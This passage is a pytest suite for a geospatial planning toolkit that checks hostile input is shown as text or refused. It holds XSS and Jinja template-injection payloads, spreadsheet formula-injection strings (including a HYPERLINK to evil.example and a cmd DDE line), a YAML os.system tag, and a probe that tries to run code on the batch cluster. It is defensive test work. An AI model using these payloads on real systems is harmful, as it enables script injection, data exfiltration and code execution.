"""Hostile and broken input, made by the tests from real data: names that are markup,
script or formulas, a batch cluster that others try to use, and the mistakes that used
to end in a bare traceback. Each test asserts the exact outcome: the error class and the
words a user needs, the text shown as it was, nothing run, nothing half-written."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import time
import warnings
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
import shapely
import yaml
from typer.testing import CliRunner

import mtown_geo as mg
from mtown_geo import batch
from mtown_geo.cli import app

from .conftest import OSM_FILES, ROOT, chromium_browser, demo_view, needs_chromium, shared_path, watch_page

runner = CliRunner()

#: Names a hostile (or unlucky) data source can hold: markup, script, a JavaScript template
#: literal, a Jinja template, quotes and backslashes, Chinese.
HOSTILE = [
    "<img src=x onerror=window.__pwned=1>",
    '"><script>window.__pwned=2</script>',
    "`${window.__pwned=3}`",
    'Tom\'s "park" \\ C:\\temp\\',
    "{{ 7*7 }}{% if 1 %}jinja{% endif %}",
    "</td></tr></table><img src=x onerror=window.__pwned=4>",
    "{{ cycler.__init__.__globals__.os.getpid() }}",
]

#: Text a spreadsheet would run as a formula (OWASP CSV injection), and its neighbours.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click me")',
    "+1+2",
    "-3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=2+2",
]


# -- script in map.html ----------------------------------------------------------------------

# Every feature of every overlay (a sample of the demand-cell layers, whose properties are
# numbers): fire the events a mouse fires (hover, click), and read what the tooltip and the
# popup then show.
_OPEN_EVERYTHING = r"""
() => {
  const map = Object.values(window).find(v => v instanceof L.Map);
  const texty = x => x.feature && Object.values(x.feature.properties || {}).some(
      v => typeof v === 'string' && !/^#[0-9a-f]{6}$/.test(v));
  const leaves = [];
  const walk = l => {
    if (l.eachLayer) { let n = 0; l.eachLayer(x => { if (n++ < 5 || texty(x) || !x.feature) walk(x); }); }
    else leaves.push(l);
  };
  map.eachLayer(l => { if (l.eachLayer) walk(l); });
  const out = [];
  for (const x of new Set(leaves)) {
    const at = x.getLatLng ? x.getLatLng() : x.getBounds().getCenter();
    const item = {props: x.feature ? x.feature.properties : null, tooltip: [], popup: [], markup: []};
    x.fire('mouseover', {latlng: at, originalEvent: new MouseEvent('mouseover')}, true);
    document.querySelectorAll('.leaflet-tooltip').forEach(t => {
      item.tooltip.push(t.innerText);
      if (t.querySelector('img, script, iframe, svg, a, object')) item.markup.push(t.innerHTML);
    });
    x.fire('mouseout', {latlng: at, originalEvent: new MouseEvent('mouseout')}, true);
    x.fire('click', {latlng: at, originalEvent: new MouseEvent('click')}, true);
    document.querySelectorAll('.leaflet-popup-content').forEach(t => {
      item.popup.push(t.innerText);
      if (t.querySelector('img, script, iframe, svg, a, object')) item.markup.push(t.innerHTML);
    });
    map.closePopup();
    out.push(item);
  }
  return out;
}
"""


_NAMED_MARKER = r"""
() => {
  const map = Object.values(window).find(v => v instanceof L.Map);
  document.querySelectorAll('.leaflet-control-layers').forEach(c => c.classList.remove('leaflet-control-layers-expanded'));
  let marker = null;
  map.eachLayer(l => {
    if (!marker && l instanceof L.CircleMarker && l.feature && /[<`{"]/.test(l.feature.properties.name || '')) marker = l;
  });
  if (!marker) return null;
  map.setView(marker.getLatLng(), 17, {animate: false});
  const box = map.getContainer().getBoundingClientRect();
  const p = map.latLngToContainerPoint(marker.getLatLng());
  return [p.x + box.left, p.y + box.top];
}
"""


def _open_in_chromium(path: Path) -> dict:
    """Open a map page, switch every overlay on, hover and click every feature, and report."""
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = chromium_browser(p)
        page = browser.new_page()
        errors = watch_page(page)
        page.goto(path.as_uri())
        page.wait_for_selector(".leaflet-control-layers-overlays", state="attached")  # in a folded control
        # a real mouse over a facility marker with a name (drawn last, on top), then away
        spot = page.evaluate(_NAMED_MARKER)
        hovered: list[str] = []
        if spot is not None:
            page.wait_for_timeout(300)  # the map redraws after the move
            page.mouse.move(spot[0], spot[1])
            page.wait_for_timeout(200)
            hovered = page.locator(".leaflet-tooltip").all_inner_texts()
            page.mouse.move(1, 1)
        page.eval_on_selector_all(
            ".leaflet-control-layers-overlays input[type=checkbox]", "els => els.forEach(e => { if (!e.checked) e.click(); })"
        )
        features = page.evaluate(_OPEN_EVERYTHING)
        labels = page.eval_on_selector_all(
            ".leaflet-control-layers-overlays label > span", "els => els.map(e => e.textContent.trim())"
        )
        titles = page.eval_on_selector_all(".leaflet-control-layers-overlays label", "els => els.map(e => e.title)")
        legend = page.eval_on_selector_all(".mtown-legend b", "els => els.map(e => e.textContent)")
        heading = page.eval_on_selector_all(".mtown-title h1", "els => els.map(e => e.textContent)")
        result = {
            "pwned": page.evaluate("window.__pwned === undefined ? null : window.__pwned"),
            "scripts": page.eval_on_selector_all("script", "els => els.length"),
            "images": page.eval_on_selector_all("img:not(.leaflet-marker-icon):not(.leaflet-tile)", "els => els.length"),
            "features": features,
            "hovered": hovered,
            "labels": labels,
            "titles": titles,
            "legend": legend,
            "heading": heading,
            "title": page.title(),
            "errors": errors,
        }
        browser.close()
    return result


@pytest.fixture(scope="module")
def hostile_osm(tmp_path_factory) -> tuple[Path, Path]:
    """Longgang (Shenzhen) with every OSM name prefixed by a hostile one (parks, greenways,
    facilities, roads), and a town polygon inside it."""
    import osmium

    src = shared_path(OSM_FILES["longgang"])
    folder = tmp_path_factory.mktemp("hostile_osm")
    out = folder / "longgang_hostile.osm.pbf"
    n = 0
    with osmium.SimpleWriter(str(out)) as writer:
        for obj in osmium.FileProcessor(str(src)):
            if "name" in obj.tags:
                tags = dict(obj.tags)
                tags["name"] = HOSTILE[n % len(HOSTILE)] + tags["name"]
                n += 1
                obj = obj.replace(tags=tags)
            writer.add(obj)
    ext = mg.sources.read_osm(out)
    town = gpd.GeoDataFrame({"kind": ["镇域", "建成区"]}, geometry=[shapely.box(*ext.bounds).buffer(-0.004)] * 2, crs=4326)
    town.to_file(folder / "town.geojson")
    return out, folder / "town.geojson"


@pytest.fixture(scope="module")
def hostile_profile(tmp_path_factory) -> Path:
    """The shipped Zhejiang profile with hostile category and circle names: a profile is a
    file a planner may take from anyone."""
    from importlib import resources

    data = yaml.safe_load((resources.files("mtown_geo.standards") / "zhejiang-2023.yaml").read_text(encoding="utf-8"))
    data["name"] = "zhejiang-hostile"
    data["categories"]["kindergarten"]["name_zh"] = HOSTILE[1]
    data["categories"]["bus_stop"]["name_zh"] = HOSTILE[2]
    data["circles"]["15min"]["name_zh"] = HOSTILE[6]
    path = tmp_path_factory.mktemp("profile") / "hostile.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def hostile_study(hostile_osm, hostile_profile) -> dict:
    osm, town = hostile_osm
    return {
        "name": HOSTILE[0] + "东门" + HOSTILE[4],
        "profile": str(hostile_profile),
        "boundaries": {"town": str(town)},
        "osm": str(osm),
        "population": {"total": 50000},
        "demand": {"cell_m": 150},
        "circles": ["15min"],
        "outputs": {"tiles": False, "static_maps": False, "rasters": False},
    }


@pytest.fixture(scope="module")
def hostile_run(hostile_study, tmp_path_factory):
    out = tmp_path_factory.mktemp("hostile_run") / "out"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", mg.MtownGeoWarning)
        result = mg.run(mg.load_study(hostile_study), out=out)
    return result, out


@pytest.mark.slow
@needs_chromium
def test_hostile_names_show_as_text_and_never_run_in_the_map(hostile_run):
    result, out = hostile_run
    # the hostile names really reach the layers the map shows
    for layer in ("parks_parks", "greenways", "facilities", "boundaries"):
        names = result.layers[layer]["name"].dropna().astype(str)
        assert any(h in n for n in names for h in HOSTILE), layer
    page = _open_in_chromium(out / "map.html")
    assert page["pwned"] is None
    assert page["errors"] == []
    assert page["scripts"] == (out / "map.html").read_text(encoding="utf-8").count("<script")  # none added
    assert page["images"] == 0
    named = [f for f in page["features"] if f["props"] and isinstance(f["props"].get("name"), str)]
    assert len(named) > 50
    shown = 0
    for f in named:
        assert f["markup"] == []
        name = f["props"]["name"]
        texts = f["tooltip"] + f["popup"]
        assert any(name in t for t in texts), (name, texts)  # literally, as in the data
        shown += any(h in name for h in HOSTILE)
    assert shown > 20
    # every kind of layer with names was opened: parks, greenways, facilities, the boundary
    kinds = {tuple(sorted(f["props"])) for f in named}
    assert any("size_label" in k for k in kinds) and any("length_m" in k for k in kinds)
    assert any("category" in k for k in kinds) and any("kind" in k for k in kinds)
    assert any("名称 name" in t and any(h in t for h in HOSTILE) for t in page["hovered"]), page["hovered"]
    # the town name from the study file: the map's title and the page title, as text
    assert page["heading"] == [result.study.name + " 生活圈设施可达性 life-circle access"]
    assert page["title"] == result.study.name + " 生活圈设施可达性 life-circle access"
    # names from the profile: layer names (the control's entries and the legend's headings),
    # the control's groups, tooltip headings, proposed sites
    assert f"{HOSTILE[6]} · {HOSTILE[1]} 出行时间 travel time" in page["titles"]
    assert f"{HOSTILE[6]} · {HOSTILE[2]} 服务范围 service area" in page["titles"]
    assert f"{HOSTILE[6]} · {HOSTILE[1]} 出行时间 travel time" in page["legend"]
    assert f"{HOSTILE[6]} 必备设施可达类别 categories reached (k / n)" in page["legend"]
    tips = [t for f in page["features"] for t in f["tooltip"]]
    assert any(f"{HOSTILE[1]} 出行时间 travel time" in t and "分钟 min" in t for t in tips)
    assert any(t.startswith(f"新增{HOSTILE[2]} #") for t in tips)


@pytest.mark.slow
@needs_chromium
def test_task_map_shows_hostile_names_as_text(hostile_run):
    """The policy-task map (streets, village roads, bus stops...) carries OSM names too."""
    result, out = hostile_run
    page = _open_in_chromium(out / "tasks_map.html")
    assert page["pwned"] is None and page["errors"] == [] and page["images"] == 0
    # the town's name from the study file: the title, as text
    assert page["heading"] == [result.study.name + " 主要任务 policy tasks"]
    assert page["title"] == result.study.name + " 主要任务 policy tasks"
    named = [f for f in page["features"] if f["props"] and any(h in str(f["props"].get("name", "")) for h in HOSTILE)]
    assert len(named) > 10
    for f in named:
        assert f["markup"] == []
        assert any(f["props"]["name"] in t for t in f["tooltip"]), (f["props"]["name"], f["tooltip"])
    # a name holding a template is written as it is, not evaluated while the page is written
    assert any(f["props"]["name"].startswith(HOSTILE[4]) for f in named)


@pytest.mark.slow
@needs_chromium
def test_siting_map_shows_the_hostile_category_name_as_text(hostile_study, tmp_path):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", mg.MtownGeoWarning)
        plan = mg.study.site(hostile_study, category="kindergarten", out=tmp_path / "site")
    assert len(plan.sites)
    page = _open_in_chromium(tmp_path / "site" / "map.html")
    assert page["pwned"] is None and page["errors"] == [] and page["images"] == 0
    # the category's name in the title, the control, the legend and each site's popup, as text
    assert page["heading"] == [f"{hostile_study['name']} 新增{HOSTILE[1]}选址 new kindergarten sites"]
    assert f"建议新增{HOSTILE[1]} proposed sites" in page["labels"]
    assert f"{HOSTILE[1]}覆盖状态 coverage" in page["titles"] and f"{HOSTILE[1]}覆盖状态 coverage" in page["legend"]
    pops = [t for f in page["features"] for t in f["popup"]]
    assert any(f"新增{HOSTILE[1]} #1" in t for t in pops), pops
    assert all(f["markup"] == [] for f in page["features"])
    # a cell no new site serves says nothing of a site (no "-1")
    tips = [t for f in page["features"] for t in f["tooltip"] if "状态 state" in t]
    assert tips and not any(re.search(r"(?<![\d.])-1(?![\d.])", t) for t in tips)


@pytest.mark.slow
def test_a_template_in_a_name_is_not_evaluated_when_the_map_is_written(hostile_run):
    """branca compiles page parts as Jinja templates: a name holding ``{{ ... }}`` must not
    be evaluated (it could call any Python function while the map is written)."""
    _, out = hostile_run
    html = (out / "map.html").read_text(encoding="utf-8")
    # the title and legend keep the template text as text (evaluated, it would read "49jinja")
    assert "东门&#123;&#123; 7*7 &#125;&#125;&#123;% if 1 %&#125;jinja&#123;% endif %&#125;" in html
    # the layer names (from the profile) too: the call is there as text, not its result
    assert html.count("cycler.__init__.__globals__.os.getpid()") >= 10


# -- formulas in spreadsheets ------------------------------------------------------------------


def _no_formula_cells(path: Path) -> dict[str, list]:
    """Every cell value of every sheet, read back with openpyxl; fails on any formula cell."""
    from openpyxl import load_workbook
    from openpyxl.utils.escape import unescape

    book = load_workbook(path)
    values: dict[str, list] = {}
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name} {ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                assert cell.hyperlink is None, f"{path.name} {ws.title}!{cell.coordinate} is a link"
        # control characters are stored as _xHHHH_ (OOXML), which Excel decodes and openpyxl leaves
        values[ws.title] = [[unescape(c.value) if isinstance(c.value, str) else c.value for c in row] for row in ws.iter_rows()]
    return values


def _csv_text(value: object) -> object:
    """A CSV cell as the toolkit's convention means it: a leading apostrophe before a formula
    character is not part of the text."""
    if isinstance(value, str) and value[:1] == "'" and value[1:2] in ("=", "+", "-", "@", "\t", "\r"):
        return value[1:]
    return value


@pytest.fixture(scope="module")
def zones_run(tmp_path_factory):
    """The demo town with its built-up area cut into four zones named like formulas, and a
    town name that is one."""
    folder = tmp_path_factory.mktemp("zones")
    b = mg.demo_boundaries("karhula")
    built = b[b["kind"] == "建成区"].to_crs(mg.crs.metric_crs(b))
    x0, y0, x1, y1 = built.total_bounds
    xm, ym = (x0 + x1) / 2, (y0 + y1) / 2
    boxes = [shapely.box(x0, y0, xm, ym), shapely.box(xm, y0, x1, ym), shapely.box(x0, ym, xm, y1), shapely.box(xm, ym, x1, y1)]
    names = FORMULAS[:4]
    gpd.GeoDataFrame({"名称": names}, geometry=boxes, crs=built.crs).to_file(folder / "zones.gpkg")
    study_file = mg.demo_study(folder / "s", town="karhula")
    data = yaml.safe_load(study_file.read_text(encoding="utf-8"))
    data.update(
        name=FORMULAS[0],
        zones={"file": str(folder / "zones.gpkg"), "name_col": "名称"},
        outputs={"maps": False, "static_maps": False, "rasters": False, "isochrones": False, "geopackage": False},
    )
    study_file.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", mg.MtownGeoWarning)
        result = mg.run(study_file, out=folder / "out")
    return result, folder / "out", names


def test_zone_and_town_names_are_text_in_every_sheet(zones_run):
    result, out, names = zones_run
    values = _no_formula_cells(out / "indicators.xlsx")
    for circle in ("5min", "15min"):
        sheet = values[f"{circle.replace('min', '分钟')}分区 {circle} zones"]
        assert sheet[0][0] == "分区 Zone"
        assert sorted(r[0] for r in sheet[1:]) == sorted(names)  # the exact text
        # the numbers stay numbers: the rates equal the table's (in %)
        table = result.tables[f"zones_{circle}"]
        col = sheet[0].index("生活圈 Whole circle (%)")
        for r in sheet[1:]:
            assert isinstance(r[col], (int, float)) and r[col] == pytest.approx(100 * table.loc[r[0], "__circle__"])
    ind = values["指标 Indicators"]
    assert isinstance(ind[2][ind[0].index("数值 Value")], (int, float))
    # the Markdown title keeps the name as text
    assert "\\[" not in FORMULAS[0] and (out / "indicators.md").read_text(encoding="utf-8").startswith(
        '# =HYPERLINK("http://evil.example/?"\\&A1,"click me") 现代化美丽城镇空间指标'
    )


def test_csv_cells_that_start_like_a_formula_get_an_apostrophe(zones_run):
    result, out, names = zones_run
    csv = pd.read_csv(out / "indicators_zones_15min.csv", encoding="utf-8-sig")
    assert sorted(csv["分区 Zone"]) == sorted("'" + n for n in names)
    assert sorted(_csv_text(v) for v in csv["分区 Zone"]) == sorted(names)
    np.testing.assert_allclose(  # in % with one decimal
        csv.set_index(csv["分区 Zone"].map(_csv_text))["生活圈 Whole circle (%)"].sort_index(),
        100 * result.tables["zones_15min"]["__circle__"].sort_index(),
        atol=0.05,
    )
    # the JSON keeps the exact text
    data = json.loads((out / "indicators.json").read_text(encoding="utf-8"))
    assert sorted(r["zone"] for r in data["zones_15min"]) == sorted(names)


def test_write_csv_and_xlsx_keep_every_prefix_as_text(tmp_path):
    """Every OWASP prefix, in a cell, the index and a header; numbers stay numbers."""
    table = pd.DataFrame(
        {"name": [*FORMULAS, "东门街道", "-", "- 3", "a=b"], "value": np.arange(10, dtype=float) - 5.5, "n": np.arange(10)},
        index=pd.Index([f"{p}idx" for p in ("=", "+", "-", "@", "\t", "\r", "", "", "", "")], name="=key"),
    )
    mg.report.write_csv(table, tmp_path / "t.csv")
    back = pd.read_csv(tmp_path / "t.csv", encoding="utf-8-sig", keep_default_na=False)
    assert list(back.columns) == ["'=key", "name", "value", "n"]
    assert [_csv_text(v) for v in back["name"]] == list(table["name"])
    assert back["name"].iloc[6:].tolist() == ["东门街道", "'-", "'- 3", "a=b"]
    assert [_csv_text(v) for v in back["'=key"]] == list(table.index)
    np.testing.assert_array_equal(back["value"].to_numpy(float), table["value"].to_numpy())
    mg.report.write_xlsx({"t": table, "t[1]/2": table}, tmp_path / "t.xlsx")
    values = _no_formula_cells(tmp_path / "t.xlsx")
    assert list(values) == ["t", "t_1__2"]
    rows = values["t"]
    assert rows[0] == ["=key", "name", "value", "n"]
    assert [r[0] for r in rows[1:]] == list(table.index)
    assert [r[1] for r in rows[1:]] == list(table["name"])
    assert [r[2] for r in rows[1:]] == list(table["value"]) and all(isinstance(r[3], int) for r in rows[1:])


# -- the batch: its cluster, its town layer, its summary ----------------------------------------

BATCH_STUDY = {
    "demand": {"cell_m": 300},
    "circles": ["15min"],
    "outputs": {"maps": False, "static_maps": False, "rasters": False},
}


def _listening(pid: int) -> list[tuple[int, str, int]]:
    """(pid, address, port) of every TCP socket a process and its children listen on."""
    import psutil

    out = []
    try:
        procs = [psutil.Process(pid), *psutil.Process(pid).children(recursive=True)]
    except psutil.NoSuchProcess:
        return out
    for proc in procs:
        try:
            out += [(proc.pid, c.laddr.ip, c.laddr.port) for c in proc.net_connections("tcp") if c.status == psutil.CONN_LISTEN]
        except psutil.NoSuchProcess:
            continue
    return out


@pytest.fixture(scope="module")
def hostile_batch(tmp_path_factory):
    """``mtown-geo batch`` as a user starts it, on three real towns: two named like formulas
    and one with a NULL geometry. While it runs, another program tries its cluster."""
    path = shared_path(OSM_FILES["liechtenstein"])
    folder = tmp_path_factory.mktemp("hostile_batch")
    towns = batch.towns_from_osm(path, admin_level="8")
    towns = towns[towns["name"].isin(["Planken", "Schellenberg", "Gamprin"])].reset_index(drop=True)
    real = dict(zip(towns["name"], towns["code"], strict=True))
    towns["name"] = towns["name"].map({"Planken": FORMULAS[0], "Schellenberg": FORMULAS[3], "Gamprin": "Gamprin"})
    towns.loc[towns["name"] == "Gamprin", "geometry"] = None
    towns.to_file(folder / "towns.gpkg")
    (folder / "study.yaml").write_text(yaml.safe_dump(BATCH_STUDY), encoding="utf-8")
    log = folder / "batch.log"
    cmd = [sys.executable, "-m", "mtown_geo.cli", "batch", str(folder / "towns.gpkg"), "--osm", str(path)]
    cmd += ["--out", str(folder / "out"), "--study", str(folder / "study.yaml"), "--workers", "1", "--verbose"]
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(ROOT), os.environ.get("PYTHONPATH", "")])}
    with open(log, "w", encoding="utf-8") as fh:
        proc = subprocess.Popen(cmd, stdout=fh, stderr=subprocess.STDOUT, env=env, cwd=folder)
        probe: dict = {"listening": set()}
        try:
            address = None
            deadline = time.monotonic() + 240
            while address is None and proc.poll() is None and time.monotonic() < deadline:
                m = re.search(r"local Dask cluster at (\S+)", log.read_text(encoding="utf-8"))
                address = m.group(1) if m else None
                time.sleep(0.2)
            assert address is not None, log.read_text(encoding="utf-8")
            probe["address"] = address
            probe["listening"] |= set(_listening(proc.pid))
            probe.update(_attack(address))
            probe["listening"] |= set(_listening(proc.pid))
            probe["running"] = proc.poll() is None
            proc.wait(timeout=600)
        finally:
            if proc.poll() is None:
                proc.kill()
    return {
        "returncode": proc.returncode,
        "log": log.read_text(encoding="utf-8"),
        "out": folder / "out",
        "probe": probe,
        "codes": real,
        "pid": proc.pid,
    }


def _attack(address: str) -> dict:
    """What another program on the machine gets from the batch's scheduler: a plain client,
    and a TLS client with certificates of its own, each trying to run code in a worker."""
    from distributed import Client
    from distributed.security import Security

    got: dict = {}
    port = address.rsplit(":", 1)[1]
    for label, addr, security in (
        ("plain", f"tcp://127.0.0.1:{port}", None),
        ("own_certificates", f"tls://127.0.0.1:{port}", Security.temporary()),
    ):
        try:
            with Client(addr, security=security, timeout=15) as client:
                got[label] = ("ran", client.submit(os.getpid, pure=False).result(timeout=60))
        except Exception as exc:  # refused: the error class and message are recorded
            got[label] = ("refused", f"{type(exc).__name__}: {exc}")
    return got


@pytest.mark.slow
def test_batch_cluster_refuses_other_programs(hostile_batch):
    probe = hostile_batch["probe"]
    assert probe["running"], "the batch ended before its cluster could be tried"
    assert probe["address"].startswith("tls://127.0.0.1:")
    assert probe["plain"][0] == "refused", probe["plain"]
    assert probe["own_certificates"][0] == "refused", probe["own_certificates"]
    # nothing listens beyond 127.0.0.1, and no dashboard came up on 8787
    assert probe["listening"], "no listening socket found"
    assert {ip for _, ip, _ in probe["listening"]} == {"127.0.0.1"}
    assert 8787 not in {port for _, _, port in probe["listening"]}
    assert hostile_batch["returncode"] == 0, hostile_batch["log"][-3000:]


@pytest.mark.slow
def test_batch_reports_a_null_geometry_town_and_runs_the_others(hostile_batch):
    summary = pd.read_csv(hostile_batch["out"] / "summary.csv", encoding="utf-8-sig")
    by_name = summary.set_index(summary["name"].map(_csv_text))
    assert by_name.loc["Gamprin", "status"] == "failed"
    assert "row" in by_name.loc["Gamprin", "error"] and "no geometry (NULL)" in by_name.loc["Gamprin", "error"]
    assert (by_name.loc[[FORMULAS[0], FORMULAS[3]], "status"] == "done").all()
    assert "failed: Gamprin" in hostile_batch["log"]


@pytest.mark.slow
def test_batch_summary_keeps_town_names_as_text(hostile_batch):
    out = hostile_batch["out"]
    rows = _no_formula_cells(out / "summary.xlsx")["towns"]
    head = rows[0]
    names = [r[head.index("name")] for r in rows[1:]]
    assert sorted(names) == sorted([FORMULAS[0], FORMULAS[3], "Gamprin"])
    for r in rows[1:]:
        if r[head.index("status")] == "done":
            assert isinstance(r[head.index("row9_value")], (int, float))  # numbers stay numbers
    csv = pd.read_csv(out / "summary.csv", encoding="utf-8-sig")
    assert sorted(csv["name"]) == sorted(["'" + FORMULAS[0], "'" + FORMULAS[3], "Gamprin"])


def test_dashboard_needs_bokeh_and_is_refused_clearly_without_it(tmp_path):
    import importlib.util

    if importlib.util.find_spec("bokeh") is not None:
        pytest.skip("bokeh is installed: the dashboard would start")
    b = mg.demo_boundaries("karhula")  # one town on the embedded extract: the refusal comes before any run
    towns = gpd.GeoDataFrame({"name": ["Karhula"]}, geometry=b.loc[b["kind"] == "镇域"].geometry.to_numpy(), crs=b.crs)
    with pytest.raises(mg.InputError, match="dashboard needs the package bokeh"):
        batch.run_batch(towns, osm=mg.demo_osm_path("karhula"), out=tmp_path, study=BATCH_STUDY, n_workers=1, dashboard=True)


# -- mistakes that used to end in a bare traceback -------------------------------------------------


@pytest.fixture(scope="module")
def metres_geojson(tmp_path_factory) -> tuple[Path, gpd.GeoDataFrame]:
    """东门街道 (Guixi) in CGCS2000 Gauss–Krüger metres, saved as GeoJSON without a `crs` member."""
    town = gpd.read_file(shared_path("guixi_jiangxi_osm/dongmen_jiedao_boundary.geojson"))
    epsg = mg.crs.gauss_kruger_epsg(float(town.union_all().centroid.x))
    metres = town.to_crs(epsg)
    data = json.loads(metres.to_json(drop_id=True))
    data.pop("crs", None)
    path = tmp_path_factory.mktemp("metres") / "dongmen_metres.geojson"
    path.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    return path, metres


def test_geojson_in_metres_without_crs_is_refused_with_the_crs_to_declare(metres_geojson):
    path, metres = metres_geojson
    with pytest.raises(mg.CRSError) as err:
        mg.sources.read_vector(path)
    text = str(err.value)
    assert "cannot be longitude/latitude" in text and "`crs` member" in text and "crs=" in text
    assert "Gauss–Krüger" in text  # the hint names the kind of CRS the numbers look like
    # declared, it reads as the same polygon (area by an independent route: the original's)
    got = mg.sources.read_vector(path, crs=metres.crs)
    assert got.crs.equals(metres.crs)
    assert got.area.sum() == pytest.approx(metres.area.sum(), rel=1e-9)
    assert 5.5e6 < got.area.sum() < 5.8e6  # 东门街道 is 5.65 km²


def test_a_study_with_a_geojson_in_metres_says_so_before_computing(metres_geojson, tmp_path):
    path, _ = metres_geojson
    study = {"name": "东门街道", "boundaries": {"town": str(path)}, "osm": str(shared_path(OSM_FILES["guixi_pbf"]))}
    with pytest.raises(mg.CRSError, match="cannot be longitude/latitude"):
        mg.run(study, out=tmp_path / "out")
    assert not (tmp_path / "out").exists()


def test_a_geographic_crs_on_metre_coordinates_is_refused(metres_geojson, tmp_path):
    """A GeoPackage that declares WGS 84 for coordinates in metres: its declared CRS is wrong."""
    _, metres = metres_geojson
    wrong = metres.set_crs(4326, allow_override=True)
    wrong.to_file(tmp_path / "wrong.gpkg")
    with pytest.raises(mg.CRSError, match=r"says its CRS is WGS 84 .*cannot be longitude/latitude"):
        mg.sources.read_vector(tmp_path / "wrong.gpkg")


def test_missing_towns_file(tmp_path):
    path = shared_path(OSM_FILES["liechtenstein"])
    with pytest.raises(mg.DataNotFoundError, match=r"towns file .*towns\.gpkg does not exist"):
        batch.run_batch(tmp_path / "towns.gpkg", osm=path, out=tmp_path / "out")
    result = runner.invoke(app, ["batch", str(tmp_path / "towns.gpkg"), "--osm", str(path), "--out", str(tmp_path / "out")])
    assert result.exit_code == 2
    assert "error: towns file" in result.output and "does not exist" in result.output


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("year: 2025\ndemand: {cell_m: 300\n", ["not valid YAML", "line"]),
        ("year: 2025\n  demand: 3\n", ["not valid YAML", "line 2"]),
        ("year: !!python/object/apply:os.system ['touch {marker}']\n", ["YAML tag", "remove the tag", "line 1"]),
        ("- year\n- 2025\n", ["a mapping of keys"]),
    ],
)
def test_bad_yaml_in_batch_study_is_a_clear_error(tmp_path, text, words):
    path = shared_path(OSM_FILES["liechtenstein"])
    marker = tmp_path / "ran"
    study = tmp_path / "batch.yaml"
    study.write_text(text.replace("{marker}", str(marker)), encoding="utf-8")
    with pytest.raises(mg.StudyError) as err:
        batch.read_study_keys(study)
    for w in words:
        assert w in str(err.value)
    result = runner.invoke(app, ["batch", "osm:8", "--osm", str(path), "--out", str(tmp_path / "out"), "--study", str(study)])
    assert result.exit_code == 2 and "Traceback" not in result.output
    assert f"error: {study}" in result.output
    assert not marker.exists()
    assert not (tmp_path / "out").exists()


def test_batch_study_paths_are_taken_from_its_folder(tmp_path):
    (tmp_path / "cfg").mkdir()
    (tmp_path / "cfg" / "batch.yaml").write_text("year: 2027\nprofile: my_profile.yaml\n", encoding="utf-8")
    keys = batch.read_study_keys(tmp_path / "cfg" / "batch.yaml")
    assert keys["year"] == 2027 and keys["base_dir"] == (tmp_path / "cfg").resolve()


@pytest.mark.slow
@pytest.mark.parametrize("workers", ["-1", "0"])
def test_workers_below_one_are_refused_at_once(tmp_path, workers):
    path = shared_path(OSM_FILES["liechtenstein"])
    towns = batch.towns_from_osm(path, admin_level="8").head(1)
    towns.to_file(tmp_path / "towns.gpkg")
    cmd = [sys.executable, "-m", "mtown_geo.cli", "batch", str(tmp_path / "towns.gpkg"), "--osm", str(path)]
    cmd += ["--out", str(tmp_path / "out"), "--workers", workers]
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(ROOT), os.environ.get("PYTHONPATH", "")])}
    done = subprocess.run(cmd, capture_output=True, text=True, timeout=120, env=env)  # it used to hang
    assert done.returncode == 2
    assert "n_workers must be a whole number of at least 1" in done.stderr
    assert not (tmp_path / "out").exists()
    with pytest.raises(mg.InputError, match="at least 1"):
        batch.run_batch(towns, osm=path, out=tmp_path / "out", n_workers=int(workers))


@pytest.mark.parametrize(
    "name", ["Tom's town # 2", '东门街道 "新区": 一期', "a\nb: c", "- 3", "{{ x }} & *ref !tag @x %y", "C:\\towns\\", ""]
)
def test_init_writes_any_town_name_so_that_it_reads_back(tmp_path, name):
    study_file = tmp_path / "study.yaml"
    result = runner.invoke(app, ["init", str(study_file), "--name", name])
    assert result.exit_code == 0, result.output
    data = yaml.safe_load(study_file.read_text(encoding="utf-8"))
    assert data["name"] == name
    assert data["code"] == "360681002" and data["year"] == 2025  # the rest of the template is intact
    assert mg.load_study(study_file).name == name


# -- disk full ----------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def demo_result(shared_demo):
    """The demo town, computed once for the session, as a run with the interactive maps and
    without print maps or rasters writes it."""
    return demo_view(shared_demo.result, maps=True, static_maps=False, rasters=False)


@pytest.fixture
def tiny_disk(tmp_path):
    """A 300 KiB file system (tmpfs; needs root), removed afterwards."""
    if sys.platform != "linux" or os.geteuid() != 0 or shutil.which("mount") is None:
        pytest.skip("mounting a small tmpfs needs root on Linux")
    mnt = tmp_path / "tiny"
    mnt.mkdir()
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=300k", "tmpfs", str(mnt)], capture_output=True, text=True)
    if done.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {done.stderr.strip()}")
    try:
        yield mnt
    finally:
        subprocess.run(["umount", str(mnt)], check=False)


def test_a_full_disk_is_refused_before_writing(demo_result, tiny_disk):
    out = tiny_disk / "results"
    with pytest.raises(mg.DiskFullError) as err:
        mg.study.write(demo_result, out)
    text = str(err.value)
    assert str(out) in text and "need about" in text and "MiB" in text and "free" in text
    assert isinstance(err.value, OSError)
    assert list(tiny_disk.iterdir()) == []


def test_a_disk_that_fills_while_writing_leaves_nothing_and_says_why(demo_result, tiny_disk, monkeypatch):
    """The real GeoPackage writer on a real full disk: the space check is skipped so that the
    disk fills in the middle of the write."""
    monkeypatch.setattr(mg.pipeline.outputs, "_check_space", lambda out, need: None)
    out = tiny_disk / "results"
